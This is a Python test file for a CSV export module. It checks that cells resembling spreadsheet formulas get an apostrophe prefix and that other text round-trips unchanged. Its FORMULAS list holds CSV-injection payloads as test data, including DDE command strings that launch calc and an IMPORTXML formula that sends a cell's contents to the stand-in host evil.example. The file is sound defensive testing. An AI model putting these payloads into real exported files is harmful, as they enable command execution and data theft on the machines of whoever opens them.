"""No cell of a CSV is a formula, and every text comes back whole."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotation.csv_lines import csv_cell, csv_line, safe_text

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "|cmd",
    "%0a=1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "\tplain",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u2007\u200d =1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\ufe661",
    "\u22121",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "-2+3+cmd|' /C calc'!D2",
    "=" + "A" * 40_000,
]
HARMLESS = ["", "plain", "a=b", "1-2", "'=already", "e-mail@example.org", "  two spaces", "x\n=1"]


@pytest.mark.parametrize("text", FORMULAS, ids=[ascii(text)[:24] for text in FORMULAS])
def test_what_looks_like_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert safe_text(text) == "'" + text
    ((cell,),) = csv.reader(io.StringIO(csv_line([text]), newline=""))
    assert cell == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_are_numbers_also_below_zero() -> None:
    assert csv_line([-1, -0.5, Decimal("0.10"), True, None, "x"]) == '-1,-0.5,0.10,true,,"x"\r\n'


def test_every_text_is_quoted_so_that_another_separator_finds_nothing() -> None:
    assert csv_cell("a;=1") == '"a;=1"'


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=4))
def test_any_texts_come_back_whole_and_none_is_a_formula(texts: list[str]) -> None:
    (cells,) = csv.reader(io.StringIO(csv_line(texts), newline=""))
    for text, cell in zip(texts, cells, strict=True):
        assert cell in (text, "'" + text)
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
